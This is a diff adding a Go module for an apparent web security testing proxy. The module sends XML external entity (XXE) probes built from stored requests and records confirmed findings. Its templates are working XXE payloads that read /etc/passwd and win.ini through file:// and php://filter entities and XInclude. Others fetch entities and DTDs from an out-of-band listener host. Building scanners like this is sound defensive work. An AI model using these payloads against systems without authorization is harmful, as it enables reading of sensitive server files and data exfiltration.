@@ -0,0 +1,318 @@
+package xxe
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"database/sql"
+	"encoding/hex"
+	"fmt"
+	"log"
+	"net/http"
+	"regexp"
+	"strings"
+	"time"
+
+	findings "prokzee/internal/findings"
+	"prokzee/internal/probe"
+	"prokzee/internal/upstream"
+)
+
+// Source identifies findings created by the XXE prober
+const Source = "xxe"
+
+// maxResponseBody bounds how much of a response is searched for markers
+const maxResponseBody = 512 * 1024
+
+// entityName is the entity the templates declare, unlikely to clash with the
+// entities of the document
+const entityName = "prokzee"
+
+// Placeholders filled in when a template is rendered
+const (
+	hostPlaceholder   = "{HOST}"   // out-of-band host, unique per probe
+	markerPlaceholder = "{MARKER}" // random string to look for in the response
+)
+
+// Template is an XXE probe. Subset is added to the internal DTD subset,
+// SystemID replaces the external DTD of the document and Inject replaces the
+// text of its first leaf element.
+type Template struct {
+	Name        string `json:"name"`
+	Description string `json:"description"`
+	OOB         bool   `json:"oob"` // needs the listener, the answer arrives out of band
+	Subset      string `json:"subset"`
+	SystemID    string `json:"systemId"`
+	Inject      string `json:"inject"`
+	Severity    string `json:"severity"`
+	marker      *regexp.Regexp
+}
+
+var unixPasswd = regexp.MustCompile(`(?m)^root:[^:\n]*:0:0:[^\n]*$`)
+
+// Templates are the probes offered for XML requests
+var Templates = []Template{
+	{
+		Name:        "file-unix",
+		Description: "External entity reading /etc/passwd",
+		Subset:      `<!ENTITY ` + entityName + ` SYSTEM "file:///etc/passwd">`,
+		Inject:      "&" + entityName + ";",
+		Severity:    findings.SeverityHigh,
+		marker:      unixPasswd,
+	},
+	{
+		Name:        "file-windows",
+		Description: "External entity reading win.ini",
+		Subset:      `<!ENTITY ` + entityName + ` SYSTEM "file:///c:/windows/win.ini">`,
+		Inject:      "&" + entityName + ";",
+		Severity:    findings.SeverityHigh,
+		marker:      regexp.MustCompile(`(?is)\[fonts\].*\[extensions\]|; for 16-bit app support`),
+	},
+	{
+		Name:        "php-filter",
+		Description: "External entity reading /etc/passwd base64 encoded through php://filter",
+		Subset:      `<!ENTITY ` + entityName + ` SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">`,
+		Inject:      "&" + entityName + ";",
+		Severity:    findings.SeverityHigh,
+		// "root:x:0:0:" and "root:*:0:0:" encoded
+		marker: regexp.MustCompile(`cm9vdDp4OjA6MDo|cm9vdDoqOjA6MDo`),
+	},
+	{
+		Name:        "xinclude",
+		Description: "XInclude of /etc/passwd, for documents whose DTD cannot be changed",
+		Inject:      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>`,
+		Severity:    findings.SeverityHigh,
+		marker:      unixPasswd,
+	},
+	{
+		Name:        "entity-echo",
+		Description: "Internal entity holding a random string, reflected when entities are expanded",
+		Subset:      `<!ENTITY ` + entityName + ` "` + markerPlaceholder + `">`,
+		Inject:      "&" + entityName + ";",
+		Severity:    findings.SeverityLow,
+		marker:      regexp.MustCompile(regexp.QuoteMeta(markerPlaceholder)),
+	},
+	{
+		Name:        "error",
+		Description: "External entity pointing at a missing file, whose path shows up in parser errors",
+		Subset:      `<!ENTITY ` + entityName + ` SYSTEM "file:///nonexistent/` + markerPlaceholder + `">`,
+		Inject:      "&" + entityName + ";",
+		Severity:    findings.SeverityMedium,
+		marker:      regexp.MustCompile(`nonexistent/` + regexp.QuoteMeta(markerPlaceholder)),
+	},
+	{
+		Name:        "oob-entity",
+		Description: "External entity fetched from the listener",
+		OOB:         true,
+		Subset:      `<!ENTITY ` + entityName + ` SYSTEM "http://` + hostPlaceholder + `/">`,
+		Inject:      "&" + entityName + ";",
+		Severity:    findings.SeverityInfo,
+	},
+	{
+		Name:        "oob-parameter",
+		Description: "Parameter entity fetched from the listener while the DTD is parsed, without any reference in the document",
+		OOB:         true,
+		Subset:      `<!ENTITY % ` + entityName + ` SYSTEM "http://` + hostPlaceholder + `/"> %` + entityName + `;`,
+		Severity:    findings.SeverityInfo,
+	},
+	{
+		Name:        "oob-dtd",
+		Description: "External DTD fetched from the listener",
+		OOB:         true,
+		SystemID:    "http://" + hostPlaceholder + "/" + entityName + ".dtd",
+		Severity:    findings.SeverityInfo,
+	},
+}
+
+// Attempt is the outcome of one template
+type Attempt struct {
+	Template string `json:"template"`
+	Payload  string `json:"payload"`
+	OOBHost  string `json:"oobHost"` // host to watch for in the listener
+	Status   int    `json:"status"`
+	Length   int    `json:"length"`
+	Hit      bool   `json:"hit"`
+	Evidence string `json:"evidence"`
+	Error    string `json:"error"`
+	Note     string `json:"note"`
+}
+
+// Result is what the prober learned about an XML request
+type Result struct {
+	RequestID   int       `json:"requestId"`
+	URL         string    `json:"url"`
+	ContentType string    `json:"contentType"` // sent with the probes
+	Adjusted    bool      `json:"adjusted"`    // the content type was changed to an XML one
+	Attempts    []Attempt `json:"attempts"`
+}
+
+// Prober sends XXE probes built from a stored XML request
+type Prober struct {
+	db       *sql.DB
+	findings *findings.Client
+	client   *http.Client
+}
+
+// NewProber creates a new XXE prober
+func NewProber(db *sql.DB, findingsClient *findings.Client) *Prober {
+	return &Prober{
+		db:       db,
+		findings: findingsClient,
+		client: &http.Client{
+			Timeout:   20 * time.Second,
+			Transport: upstream.NewHTTPTransport(false),
+			CheckRedirect: func(req *http.Request, via []*http.Request) error {
+				return http.ErrUseLastResponse
+			},
+		},
+	}
+}
+
+// Run sends the named templates, all of them when names is empty, built from
+// the XML body of a stored request. Out-of-band templates are sent only when
+// oobDomain, the domain of the listener, is set.
+func (p *Prober) Run(ctx context.Context, requestID int, names []string, oobDomain string) (*Result, error) {
+	stored, err := probe.Load(p.db, requestID)
+	if err != nil {
+		return nil, err
+	}
+	if !IsXML(stored.Body) {
+		return nil, fmt.Errorf("request %d has no XML body", requestID)
+	}
+
+	result := &Result{RequestID: requestID, URL: stored.Target.String(), Attempts: []Attempt{}}
+	result.ContentType, result.Adjusted = xmlContentType(stored.Header.Get("Content-Type"))
+	stored.Header.Set("Content-Type", result.ContentType)
+
+	// Markers already in the normal response prove nothing
+	_, baseline, err := p.send(ctx, stored, stored.Body)
+	if err != nil {
+		return nil, fmt.Errorf("baseline request failed: %v", err)
+	}
+
+	for _, template := range selected(names) {
+		if ctx.Err() != nil {
+			break
+		}
+		attempt := Attempt{Template: template.Name}
+		if template.OOB && oobDomain == "" {
+			attempt.Note = "Skipped, start the listener for out-of-band probes"
+			result.Attempts = append(result.Attempts, attempt)
+			continue
+		}
+
+		marker := randomToken()
+		if template.OOB {
+			attempt.OOBHost = marker + "." + oobDomain
+		}
+		attempt.Payload = Render(stored.Body, template, attempt.OOBHost, marker)
+
+		status, body, err := p.send(ctx, stored, attempt.Payload)
+		if err != nil {
+			attempt.Error = err.Error()
+			result.Attempts = append(result.Attempts, attempt)
+			continue
+		}
+		attempt.Status, attempt.Length = status, len(body)
+
+		switch {
+		case template.OOB:
+			attempt.Note = "Sent, an interaction with " + attempt.OOBHost + " in the listener confirms it"
+		case template.marker != nil:
+			pattern := regexp.MustCompile(strings.ReplaceAll(template.marker.String(), regexp.QuoteMeta(markerPlaceholder), regexp.QuoteMeta(marker)))
+			if match := pattern.Find(body); match != nil && !pattern.Match(baseline) {
+				attempt.Hit = true
+				attempt.Evidence = evidence(match)
+				attempt.Note = template.Description + " worked"
+			}
+		}
+		p.record(stored, result, template, attempt)
+		result.Attempts = append(result.Attempts, attempt)
+	}
+	return result, nil
+}
+
+// record stores a confirmed probe, or a sent out-of-band probe, as a finding
+// with the exact payload
+func (p *Prober) record(stored *probe.Request, result *Result, template Template, attempt Attempt) {
+	if !attempt.Hit && !template.OOB {
+		return
+	}
+	title := "XML external entity injection (" + template.Name + ")"
+	detail := fmt.Sprintf("%s\nStatus %d, Content-Type %s\nEvidence: %s\nPayload:\n%s",
+		attempt.Note, attempt.Status, result.ContentType, attempt.Evidence, attempt.Payload)
+	if template.OOB {
+		title = "Out-of-band XXE probe sent (" + template.Name + ")"
+		detail = fmt.Sprintf("%s\nStatus %d, Content-Type %s\nPayload:\n%s",
+			attempt.Note, attempt.Status, result.ContentType, attempt.Payload)
+	}
+
+	err := p.findings.AddFinding(findings.Finding{
+		Source:    Source,
+		Host:      stored.Target.Hostname(),
+		URL:       stored.Target.String(),
+		RequestID: result.RequestID,
+		Title:     title,
+		Severity:  template.Severity,
+		Detail:    detail,
+		Key:       stored.Method + "|" + stored.Target.Host + stored.Target.Path + "|" + template.Name,
+	})
+	if err != nil {
+		log.Printf("Failed to record XXE finding: %v", err)
+	}
+}
+
+// selected returns the templates named, all of them when names is empty
+func selected(names []string) []Template {
+	if len(names) == 0 {
+		return Templates
+	}
+	var out []Template
+	for _, template := range Templates {
+		for _, name := range names {
+			if strings.EqualFold(template.Name, name) {
+				out = append(out, template)
+				break
+			}
+		}
+	}
+	return out
+}
+
+// send replays the stored request with another body
+func (p *Prober) send(ctx context.Context, stored *probe.Request, body string) (int, []byte, error) {
+	req, err := stored.NewHTTPRequest(ctx, stored.Method, stored.Target, body)
+	if err != nil {
+		return 0, nil, err
+	}
+	resp, respBody, err := probe.Do(p.client, req, maxResponseBody)
+	if err != nil {
+		return 0, nil, err
+	}
+	return resp.StatusCode, respBody, nil
+}
+
+// xmlContentType returns the content type the probes are sent with, and
+// whether it differs from the one of the request
+func xmlContentType(contentType string) (string, bool) {
+	if strings.Contains(strings.ToLower(contentType), "xml") {
+		return contentType, false
+	}
+	return "application/xml", true
+}
+
+// randomToken returns a lowercase random string, usable as a DNS label
+func randomToken() string {
+	b := make([]byte, 6)
+	rand.Read(b)
+	return "x" + hex.EncodeToString(b)
+}
+
+// evidence trims a marker match for display, without dumping the whole file
+func evidence(match []byte) string {
+	line := strings.SplitN(string(bytes.TrimSpace(match)), "\n", 2)[0]
+	if len(line) > 120 {
+		line = line[:120] + "..."
+	}
+	return line
+}